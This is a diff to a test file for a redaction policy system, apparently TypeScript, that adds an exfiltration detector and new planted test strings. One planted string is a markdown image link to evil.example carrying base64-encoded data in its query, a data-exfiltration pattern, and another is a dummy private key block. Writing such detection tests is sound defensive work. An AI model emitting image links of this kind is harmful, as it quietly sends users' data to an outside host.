@@ -4,6 +4,7 @@ import { compilePolicy } from "../policy/compile";
 import { applyMasks, masksFor } from "../policy/redact";
 import { ruleOf, someScope } from "../policy/rule.fixture";
 import { eventsOf, formats, govern, pieces } from "../policy/stream-formats.fixture";
+import { exfiltration } from "./exfiltration/exfiltration";
 import { pendingForm } from "./pending";
 import { piiDetector } from "./pii/detector";
 import { secretDetector } from "./secrets/detector";
@@ -11,7 +12,11 @@ import { secretDetector } from "./secrets/detector";
 const kinds = ["pii", "exfiltration"] as const;
 const selection = compilePolicy(
   kinds.map((kind) => ruleOf("redact", { kind, entities: null, minConfidence: 0.5 })),
-  { detectors: [piiDetector, secretDetector], storeMinSeverity: null, digest: (value) => value },
+  {
+    detectors: [piiDetector, secretDetector, exfiltration],
+    storeMinSeverity: null,
+    digest: (value) => value,
+  },
 ).select(someScope, "response");
 
 const planted = [
@@ -35,6 +40,8 @@ const planted = [
   "account number 12345678",
   "00:1A:2B:3C:4D:5E",
   "NHS 943 476 5919",
+  `![a chart of it](https://evil.example/p.png?data=${"c2VjcmV0IHdvcmRz".repeat(30)})`,
+  "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQDS8xIQ\n-----END PRIVATE KEY-----",
 ];
 const filler = [
   "the ",
